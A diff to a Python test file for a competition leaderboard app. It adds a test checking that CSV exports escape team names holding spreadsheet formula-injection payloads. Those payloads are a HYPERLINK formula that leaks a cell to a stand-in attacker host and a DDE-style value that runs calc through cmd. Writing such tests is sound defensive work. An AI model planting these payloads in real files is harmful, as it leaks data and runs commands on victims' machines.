@@ -307,6 +307,26 @@ def test_leaderboard_export_as_csv_lists_ranks_and_means(board: Board) -> None:
     assert export.filename == "final-leaderboard.csv"
 
 
+HOSTILE_TEAM_NAMES = {
+    "Alpha": '=HYPERLINK("https://attacker.example/?leak="&A1,"Details")',
+    "Beta": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+@pytest.mark.parametrize("table", ["leaderboard", "cases"])
+def test_csv_exports_write_team_names_a_spreadsheet_would_run_as_text(board: Board, table: str) -> None:
+    for key, name in HOSTILE_TEAM_NAMES.items():
+        board.teams[key].name = name
+        board.teams[key].save(update_fields=["name"])
+    leaderboard_rebuild(phase=board.phase)
+
+    export = leaderboard_export(phase=board.phase, table=table, file_format="csv")
+
+    rows = list(csv.DictReader(io.StringIO(export.content.decode())))
+    assert {row["team"] for row in rows} == {f"'{name}" for name in HOSTILE_TEAM_NAMES.values()} | {"carol"}
+    assert all(float(row["rank"]) >= 1 for row in rows)  # numbers are left as numbers
+
+
 def test_case_export_as_json_has_one_row_per_entry_and_case(board: Board) -> None:
     leaderboard_rebuild(phase=board.phase)
 
